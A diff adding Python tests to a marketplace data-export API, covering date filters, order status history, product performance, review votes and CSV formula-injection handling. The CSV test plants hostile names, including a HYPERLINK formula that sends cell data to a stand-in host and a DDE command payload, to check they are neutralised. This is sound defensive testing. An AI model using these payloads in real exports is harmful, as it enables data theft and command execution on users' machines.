@@ -21,7 +21,7 @@ from cdc.mapping import parse_mapping
 from config import sample
 from config.settings import Settings
 from outbox import sqlfile, store
-from tests.conftest import MAPPING, SourceDb, make_settings
+from tests.conftest import MAPPING, SourceDb, make_settings, read_events
 from tests.unit.test_export_values import keys_of
 
 VOLUME = sample.Volume(customers=60, sellers=4, products=40, orders=150, reviews=80, views=300, carts=10)
@@ -515,3 +515,216 @@ async def test_a_jsonb_integer_past_64_bits_exports_exactly_in_every_format(api)
     column = table[0].index("shipping_address")
     (cell,) = [r[column] for r in table[1:] if int(r[0]) == order]
     assert json.loads(cell) == {"big": big}
+
+
+async def test_customer_detail_has_its_order_history_within_date_from_and_date_to(api):
+    """date_from/date_to, which the design lists for /customers/{id}, were ignored: the
+    statistics counted every order whatever the period."""
+    _, get, db = api
+    customer = db.execute("SELECT user_id FROM orders GROUP BY user_id HAVING count(*) >= 3 LIMIT 1")[0][0]
+    mine = ids(db, "SELECT id FROM orders WHERE user_id = %s ORDER BY id", customer)
+    db.execute("UPDATE orders SET created_at = '2026-01-05 10:00:00+00' WHERE id = %s", mine[0])
+    db.execute("UPDATE orders SET created_at = '2026-01-06 23:59:59+00' WHERE id = %s", mine[1])
+    db.execute("UPDATE orders SET created_at = '2026-01-07 00:00:00+00' WHERE id = ANY(%s)", mine[2:])
+    data = (await get(f"/customers/{customer}", date_from="2026-01-05", date_to="2026-01-06"))["data"]
+    assert data["statistics"]["orders_count"] == 2
+    assert [o["id"] for o in data["order_history"]] == [mine[1], mine[0]]  # newest first
+    assert data["statistics"]["last_order_at"] == "2026-01-06T23:59:59.000000Z"
+    assert set(data["order_history"][0]) == {
+        "id",
+        "order_number",
+        "status",
+        "payment_status",
+        "total",
+        "currency",
+        "created_at",
+    }
+    assert data["period"] == {
+        "date_from": "2026-01-05T00:00:00.000000Z",
+        "date_to": "2026-01-07T00:00:00.000000Z",
+    }
+    everything = (await get(f"/customers/{customer}"))["data"]
+    assert [o["id"] for o in everything["order_history"]] == ids(
+        db, "SELECT id FROM orders WHERE user_id = %s ORDER BY created_at DESC, id DESC", customer
+    )
+    assert everything["statistics"]["orders_count"] == len(mine)
+    assert everything["period"] == {"date_from": None, "date_to": None}
+    bounded = (await get(f"/customers/{customer}", per_page=2))["data"]
+    assert [o["id"] for o in bounded["order_history"]] == [o["id"] for o in everything["order_history"][:2]]
+    assert bounded["statistics"]["orders_count"] == len(mine)  # statistics cover the period, not the page
+    body = await get(f"/customers/{customer}", _status=422, date_from="2026-02-01", date_to="2026-01-01")
+    assert body["error"]["field"] == "date_to"
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(api):
+    """A customer named =HYPERLINK(...) came out raw in format=csv: opened in a spreadsheet,
+    the cell runs.  Text starting with = + - @ tab or CR gets a leading quote; numbers stay."""
+    _, get, db = api
+    hostile = {
+        11: '=HYPERLINK("http://evil.test/?d="&A1,"Click")',
+        12: "+1+cmd|' /C calc'!A0",
+        13: "-2+3",
+        14: "@SUM(A1:A9)",
+        15: "\t=1+1",
+        16: "\r=1+1",
+    }
+    for user, name in hostile.items():
+        db.execute("UPDATE users SET name = %s WHERE id = %s", name, user)
+    db.execute("UPDATE users SET phone = '-5.00' WHERE id = 17")  # a number: left alone
+    db.execute("UPDATE orders SET discount_total = -5.00 WHERE id = 1")
+    table = list(csv.reader(io.StringIO((await get("/customers", format="csv")).decode())))
+    by_id = {int(r[0]): dict(zip(table[0], r, strict=True)) for r in table[1:]}
+    for user, name in hostile.items():
+        assert by_id[user]["name"] == "'" + name
+    assert by_id[17]["phone"] == "-5.00"
+    assert by_id[18]["name"] == db.execute("SELECT name FROM users WHERE id = 18")[0][0]
+    orders = list(csv.reader(io.StringIO((await get("/orders", format="csv")).decode())))
+    (first,) = [dict(zip(orders[0], r, strict=True)) for r in orders[1:] if r[0] == "1"]
+    assert first["discount_total"] == "-5.00"
+    assert first["created_at"][0].isdigit()
+    rows = [json.loads(line) for line in (await get("/customers", format="ndjson")).decode().splitlines()]
+    assert {r["id"]: r["name"] for r in rows}[11] == hostile[11]  # JSON is not a spreadsheet
+
+
+async def test_order_detail_has_its_status_history_from_the_captured_events(
+    marketplace, tmp_path, run_capture
+):
+    """Each status change capture saw, with its time and the status before it: what no
+    polling export can give.  Read from the outbox, not the marketplace."""
+    settings = make_settings(marketplace, tmp_path / "outbox.db")
+    capture = run_capture(settings)
+    capture.wait_caught_up()
+    client, k = await start(settings)
+    auth = {"X-API-Key": k["export"]}
+
+    async def order(order_id: int) -> dict[str, Any]:
+        resp = await client.get(f"{BASE}/orders/{order_id}", headers=auth)
+        assert resp.status == 200
+        data: dict[str, Any] = (await resp.json())["data"]
+        return data
+
+    try:
+        target, other, quiet = (
+            r[0]
+            for r in marketplace.execute("SELECT id FROM orders WHERE status = 'pending' ORDER BY id LIMIT 3")
+        )
+        assert (await order(target))["status_history"] == []
+        marketplace.execute("UPDATE orders SET status = 'processing' WHERE id = %s", target)
+        marketplace.execute("UPDATE orders SET payment_status = 'paid' WHERE id = %s", target)  # not a status
+        marketplace.execute("UPDATE orders SET status = 'cancelled' WHERE id = %s", other)
+        marketplace.execute("UPDATE orders SET status = 'shipped' WHERE id = %s", target)
+        capture.wait_caught_up()
+        history = (await order(target))["status_history"]
+        assert [(h["previous_status"], h["status"]) for h in history] == [
+            ("pending", "processing"),
+            ("processing", "shipped"),
+        ]
+        changes = [
+            e
+            for e in read_events(settings.outbox.path)
+            if e["type"] == "order.status_changed" and e["data"]["id"] == target
+        ]
+        assert [h["event_id"] for h in history] == [e["id"] for e in changes]
+        assert [h["changed_at"] for h in history] == [e["timestamp"] for e in changes]
+        assert history[0]["changed_at"].endswith("Z") and history[0]["changed_at"] <= history[1]["changed_at"]
+        assert [h["status"] for h in (await order(other))["status_history"]] == ["cancelled"]
+        assert (await order(quiet))["status_history"] == []
+    finally:
+        await client.close()
+
+
+async def test_product_detail_has_its_performance_over_a_period(api):
+    _, get, db = api
+    product = db.execute(
+        "SELECT product_id FROM order_items GROUP BY product_id HAVING count(*) >= 3 LIMIT 1"
+    )[0][0]
+    orders = ids(db, "SELECT order_id FROM order_items WHERE product_id = %s ORDER BY order_id", product)
+    db.execute(
+        "UPDATE orders SET created_at = '2020-04-10 12:00:00+00', status = 'delivered' WHERE id = ANY(%s)",
+        orders,
+    )
+    db.execute("UPDATE orders SET status = 'cancelled' WHERE id = %s", orders[0])  # not a sale
+    db.execute("UPDATE orders SET created_at = '2020-05-01 00:00:00+00' WHERE id = %s", orders[1])  # after
+    db.execute("UPDATE product_views SET viewed_at = '2020-01-01 00:00:00+00' WHERE product_id = %s", product)
+    db.execute(
+        "INSERT INTO product_views (product_id, viewed_at)"
+        " SELECT %s, ('2020-04-0' || n || ' 09:00:00+00')::timestamptz FROM generate_series(1, 8) n",
+        product,
+    )
+    sold = orders[2:]
+    units, revenue = db.execute(
+        "SELECT sum(quantity), sum(total) FROM order_items WHERE product_id = %s AND order_id = ANY(%s)",
+        product,
+        sold,
+    )[0]
+    data = (await get(f"/products/{product}", date_from="2020-04-01", date_to="2020-04-30"))["data"]
+    assert data["performance"] == {
+        "period": {"date_from": "2020-04-01T00:00:00.000000Z", "date_to": "2020-05-01T00:00:00.000000Z"},
+        "views": 8,
+        "orders": len(sold),
+        "units_sold": units,
+        "revenue": str(revenue),
+        "conversion_rate": round(len(sold) / 8, 4),
+    }
+    assert data["rating"]["count"] >= 0 and "distribution" in data["rating"]  # alongside, unchanged
+    recent = (await get(f"/products/{product}"))["data"]["performance"]  # default: the last 30 days
+    assert recent["views"] == 0 and recent["orders"] == 0 and recent["revenue"] == "0.00"
+    assert recent["conversion_rate"] is None
+    assert recent["period"]["date_to"] > "2020-05-01"
+    body = await get(f"/products/{product}", _status=422, date_from="9000-01-01")
+    assert body["error"]["field"] == "date_from"  # after the default end: a backwards period
+
+
+async def test_reviews_carry_their_product_shop_and_helpful_votes(api):
+    _, get, db = api
+    assert db.execute("SELECT count(*) FROM review_votes")[0][0] > 0  # the sample has votes
+    db.execute("DELETE FROM review_votes WHERE review_id IN (2, 3)")
+    voters = ids(db, "SELECT id FROM users WHERE role = 'customer' ORDER BY id LIMIT 4")
+    for voter, helpful in zip(voters, (True, True, True, False), strict=True):
+        db.execute(
+            "INSERT INTO review_votes (review_id, user_id, helpful) VALUES (2, %s, %s)", voter, helpful
+        )
+    rows = {r["id"]: r for r in await page_all(get, "/reviews", per_page=30)}
+    assert list(rows) == ids(db, "SELECT id FROM reviews ORDER BY id")  # keyset paging unchanged
+    assert (rows[2]["helpful_votes"], rows[2]["not_helpful_votes"]) == (3, 1)
+    assert (rows[3]["helpful_votes"], rows[3]["not_helpful_votes"]) == (0, 0)
+    expected = db.execute(
+        "SELECT r.id, p.name, p.slug, s.id, s.name, s.slug,"
+        " (SELECT count(*) FROM review_votes v WHERE v.review_id = r.id AND v.helpful),"
+        " (SELECT count(*) FROM review_votes v WHERE v.review_id = r.id AND NOT v.helpful)"
+        " FROM reviews r JOIN products p ON p.id = r.product_id JOIN shops s ON s.id = p.shop_id ORDER BY r.id"
+    )
+    got = [
+        tuple(
+            rows[e[0]][c]
+            for c in (
+                "id",
+                "product_name",
+                "product_slug",
+                "shop_id",
+                "shop_name",
+                "shop_slug",
+                "helpful_votes",
+                "not_helpful_votes",
+            )
+        )
+        for e in expected
+    ]
+    assert got == [tuple(e) for e in expected]
+    product = rows[2]["product_id"]
+    filtered = await page_all(get, "/reviews", product_id=product, rating=rows[2]["rating"])
+    assert 2 in [r["id"] for r in filtered] and {r["product_id"] for r in filtered} == {product}
+    table = list(csv.reader(io.StringIO((await get("/reviews", format="csv")).decode())))
+    assert table[0][:10] == [
+        "id",
+        "product_id",
+        "user_id",
+        "order_id",
+        "rating",
+        "title",
+        "comment",
+        "status",
+        "created_at",
+        "updated_at",
+    ]  # the columns a CSV consumer had keep their places
+    assert {"product_name", "shop_slug", "helpful_votes"} <= set(table[0])
